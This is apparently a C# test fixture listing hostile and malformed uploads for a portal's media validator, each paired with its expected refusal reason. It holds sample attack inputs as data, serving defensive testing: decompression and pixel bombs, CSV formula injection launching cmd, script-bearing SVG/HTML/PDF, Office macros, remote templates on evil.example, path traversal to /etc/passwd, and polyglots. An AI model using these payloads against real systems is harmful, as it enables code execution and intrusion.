using CariccPortal.Media;
using static CariccPortal.Media.MediaRefusalReason;

namespace CariccPortal.Tests.Media;

/// <summary>Uploads that are broken or meant to do harm, and why each is refused.</summary>
public static class HostileUploads
{
    private static readonly Dictionary<string, (string Name, Func<byte[]> Make, MediaRefusalReason Why)> Known = new(StringComparer.Ordinal)
    {
        ["nothing at all"] = ("empty.jpg", () => [], Empty),
        ["a text of spaces"] = ("empty.txt", () => Documents.Bytes(" \n\t\n"), Empty),
        ["one byte more than is taken"] = ("large.txt", () => new byte[20_000_001], TooLarge),
        ["a pixel bomb as PNG"] = ("bomb.png", () => Pictures.Png(1, 1, 60_000, 60_000), TooManyPixels),
        ["a pixel bomb as JPEG"] = ("bomb.jpg", () => Pictures.JpegHead(65_500, 65_500), TooManyPixels),
        ["a pixel bomb as WebP"] = ("bomb.webp", () => Pictures.WebPHead(16_384, 16_384), TooManyPixels),
        ["a pixel bomb as HEIC"] = ("bomb.heic", () => Pictures.HeifHead("heic", 100_000, 100_000), TooManyPixels),
        ["a pixel bomb as AVIF"] = ("bomb.avif", () => Pictures.HeifHead("avif", 2_000_000_000, 2_000_000_000), TooManyPixels),
        ["a picture as long as a street"] = ("long.png", () => Pictures.Png(1, 1, 1, 40_000_000), TooManyPixels),
        ["a size below nothing"] = ("minus.png", () => Pictures.Png(1, 1, -5, -5), Damaged),
        ["a picture without any width"] = ("none.png", () => Pictures.Png(1, 1, 0, 10), Damaged),
        ["a scan that comes back thousands of times"] = ("scans.jpg", () => Pictures.JpegOfManyScans(4000, 3000), Damaged),
        ["a HEIC that says it is smaller than it is"] = ("lies.heic", () => Pictures.HeicThatLies(2000, 1500), Damaged),
        ["a WebP that says it is smaller than it is"] = ("lies.webp", () => Pictures.WebPThatLies(2000, 1500), Damaged),
        ["more memory than a picture may take"] = ("memory.jpg", () => Vips.Convert(Pictures.Png(6900, 6900), "jpg[interlace,Q=95,subsample_mode=off]"), TooMuch),
        ["half a JPEG"] = ("half.jpg", () => Pictures.Jpeg(800, 600)[..3000], Damaged),
        ["half a PNG"] = ("half.png", () => Pictures.Png(800, 600)[..1500], Damaged),
        ["half a WebP"] = ("half.webp", () => Vips.Convert(Pictures.Png(800, 600), "webp")[..300], Damaged),
        ["half a HEIC"] = ("half.heic", () => Vips.Convert(Pictures.Png(800, 600), "heic[compression=hevc]")[..700], Damaged),
        ["noise behind the first bytes of a JPEG"] = ("noise.jpg", () => [0xFF, 0xD8, 0xFF, .. Noise(5000)], Damaged),
        ["noise behind the first bytes of a PNG"] = ("noise.png", () => [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, .. Noise(5000)], Damaged),
        ["an SVG"] = ("picture.svg", () => Documents.Bytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"), TypeUnknown),
        ["an SVG that is called a PNG"] = ("picture.png", () => Documents.Bytes("<?xml version=\"1.0\"?>\n<!DOCTYPE svg [<!ENTITY a \"b\">]>\n<svg/>"), TypeUnknown),
        ["a page that is called a text"] = ("page.txt", () => Documents.Bytes("\uFEFF  <!doctype html><script>alert(1)</script>"), TypeUnknown),
        ["a GIF"] = ("picture.gif", () => [.. "GIF89a"u8, .. Noise(100)], TypeUnknown),
        ["a TIFF"] = ("picture.jpg", () => [0x49, 0x49, 0x2A, 0x00, .. Noise(100)], TypeUnknown),
        ["a program that is called a picture"] = ("holiday.jpg", () => [.. "MZ"u8, .. Noise(1000)], TypeUnknown),
        ["a program of Linux that is called a PDF"] = ("report.pdf", () => [0x7F, .. "ELF"u8, .. Noise(1000)], TypeUnknown),
        ["an old Office file"] = ("old.doc", () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. Noise(1000)], TypeUnknown),
        ["an archive"] = ("all.zip", () => Documents.Zip(("a.txt", Documents.Bytes("a"))), TypeUnknown),
        ["an archive that is called a Word file"] = ("report.docx", () => Documents.Zip(("virus.exe", Documents.Bytes("MZ"))), TypeUnknown),
        ["noise that is called a text"] = ("noise.txt", () => [0xC3, 0x28, 0xFF, 0xFE, 0x00], NotUtf8),
        ["a text with zeros in it"] = ("zero.txt", () => Documents.Bytes("a\0b"), NotUtf8),
        ["a table in the letters of Windows"] = ("table.csv", () => [0xCF, 0xF0, 0xE8, 0xE2, 0xE5, 0xF2, (byte)';', (byte)'1'], NotUtf8),
        ["a table with a formula that starts a program"] = ("table.csv", () => Documents.Bytes("Country;Kilograms\nKazakhstan;=cmd|'/c calc'!A0\n"), Formula),
        ["a formula behind a quotation mark and a plus"] = ("table.csv", () => Documents.Bytes("a,\"+HYPERLINK(\"\"https://evil.example\"\")\"\n"), Formula),
        ["a Word file with macros"] = ("macro.docx", () => Documents.Docx(("word/vbaProject.bin", Noise(100))), Macros),
        ["a Word file that says it has macros"] = ("macro.docm", () => Documents.OpenXml("application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml", ""), Macros),
        ["macros under another name"] = ("macro.docx", () => Documents.OpenXml("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "word/document.xml",
            "<Override PartName=\"/word/fonts.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>", ("word/fonts.bin", Noise(100))), Macros),
        ["an Excel file with a sheet of macros"] = ("macro.xlsx", () => Documents.Xlsx(("xl/macrosheets/sheet1.xml", Documents.Bytes("<x/>"))), Macros),
        ["a workbook with macros within a presentation"] = ("talk.pptx", () => Documents.Pptx(("ppt/embeddings/data.xlsx", Documents.Xlsx(("xl/vbaProject.bin", Noise(100))))), Macros),
        ["a program within a Word file"] = ("report.docx", () => Documents.Docx(("word/embeddings/oleObject1.bin", Noise(100))), Acts),
        ["a template that is fetched from elsewhere"] = ("report.docx", () => Documents.Docx(Documents.External("attachedTemplate", "https://evil.example/t.dotm")), FetchesParts),
        ["a template on a share"] = ("report.docx", () => Documents.Docx(Documents.External("attachedTemplate", "file://evil.example/t.dotm")), FetchesParts),
        ["a picture that tells its owner who reads"] = ("report.docx", () => Documents.Docx(Documents.External("image", "https://evil.example/1.png")), FetchesParts),
        ["entities that multiply in a Word file"] = ("report.docx", () => Documents.Zip(("[Content_Types].xml", Documents.Bytes("<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;\">]><Types>&b;</Types>"))), Damaged),
        ["a text with Basic in it"] = ("text.odt", () => Documents.Odt(("Basic/Standard/Module1.xml", Documents.Bytes("<x/>"))), Macros),
        ["a spreadsheet with Python in it"] = ("table.ods", () => Documents.Ods(("Scripts/python/a.py", Documents.Bytes("import os"))), Macros),
        ["a zip bomb that is called a Word file"] = ("bomb.docx", () => Documents.Docx(("word/media/zeros.bin", new byte[110_000_000])), TooMuch),
        ["an archive of ten thousand parts"] = ("parts.docx", () => Documents.Docx([.. Enumerable.Range(0, 10_000).Select(number => ($"word/{number}.xml", Array.Empty<byte>()))]), TooMuch),
        ["an archive whose part is named twice"] = ("twice.docx", () => Documents.Docx(("word/document.xml", Documents.Bytes("<other/>"))), Damaged),
        ["an archive with a way out of its folder"] = ("out.docx", () => Documents.Docx(("../../etc/passwd", Documents.Bytes("x"))), Damaged),
        ["an archive that is cut"] = ("cut.docx", () => Documents.Docx()[..^40], Damaged),
        ["a page behind a Word file"] = ("two.docx", () => [.. Documents.Docx(), .. "<script>alert(1)</script>"u8], TwoInOne),
        ["a page before a PDF"] = ("two.pdf", () => [.. "<html><script>alert(1)</script>\n"u8, .. Documents.Pdf()], TwoInOne),
        ["a PDF that is an archive too"] = ("two.pdf", () => [.. Documents.Pdf(), .. Documents.Zip(("a.exe", Documents.Bytes("MZ")))], TwoInOne),
        ["a PDF that hides in an archive's comment"] = ("two.pdf", ArchiveWithinPdf, TwoInOne),
        ["a PDF that breaks off"] = ("cut.pdf", () => Documents.Pdf()[..^10], Damaged),
        ["a PDF with a script"] = ("script.pdf", () => Documents.Pdf("4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n", "/OpenAction 4 0 R"), Acts),
        ["a PDF with a script written by numbers"] = ("script.pdf", () => Documents.Pdf("4 0 obj\n<< /S /J#61v#61Script /JS (app.alert(1)) >>\nendobj\n", "/OpenAction 4 0 R"), Acts),
        ["a PDF with a script in a packed stream"] = ("script.pdf", () => Documents.PdfWithPacked("9 0 << /S /JavaScript /JS (app.alert(1)) >>"), Acts),
        ["a PDF whose packed stream is wrapped twice"] = ("script.pdf", () => Documents.PdfWithPacked("9 0 << /S /URI >>", "/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]"), Acts),
        ["a PDF that starts a program"] = ("launch.pdf", () => Documents.Pdf("4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n", "/OpenAction 4 0 R"), Acts),
        ["a PDF that carries a file"] = ("carries.pdf", () => Documents.Pdf("4 0 obj\n<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\nendobj\n"), Acts),
        ["a PDF that is locked"] = ("locked.pdf", () => Documents.Pdf("trailer\n<< /Encrypt 9 0 R >>\n"), Locked),
        ["a PDF whose streams swell"] = ("swells.pdf", () => Documents.PdfWithPacked(new string('a', 110_000_000), "/Filter /FlateDecode"), TooMuch),
    };

    public static TheoryData<string> All { get; } = [.. Known.Keys];

    /// <summary>Whether vips is needed to make it, or for it to be refused as it should be.</summary>
    public static bool NeedsVips(string upload) => Known[upload].Name.Split('.')[^1] is "jpg" or "png" or "webp" or "heic" && Known[upload].Why is Damaged or TooMuch;

    public static (string Name, byte[] Content, MediaRefusalReason Why) Of(string upload) => (Known[upload].Name, Known[upload].Make(), Known[upload].Why);

    private static byte[] ArchiveWithinPdf()
    {
        var pdf = Documents.Pdf();
        var zip = Documents.Zip(("a.exe", Documents.Bytes("MZ")));
        byte[] tail = [.. "\n%%EOF\n"u8];
        (zip[^2], zip[^1]) = ((byte)tail.Length, 0);
        return [.. pdf, .. zip, .. tail];
    }

    private static byte[] Noise(int count)
    {
        var noise = new byte[count];
        new Random(20240327).NextBytes(noise);
        return noise;
    }
}
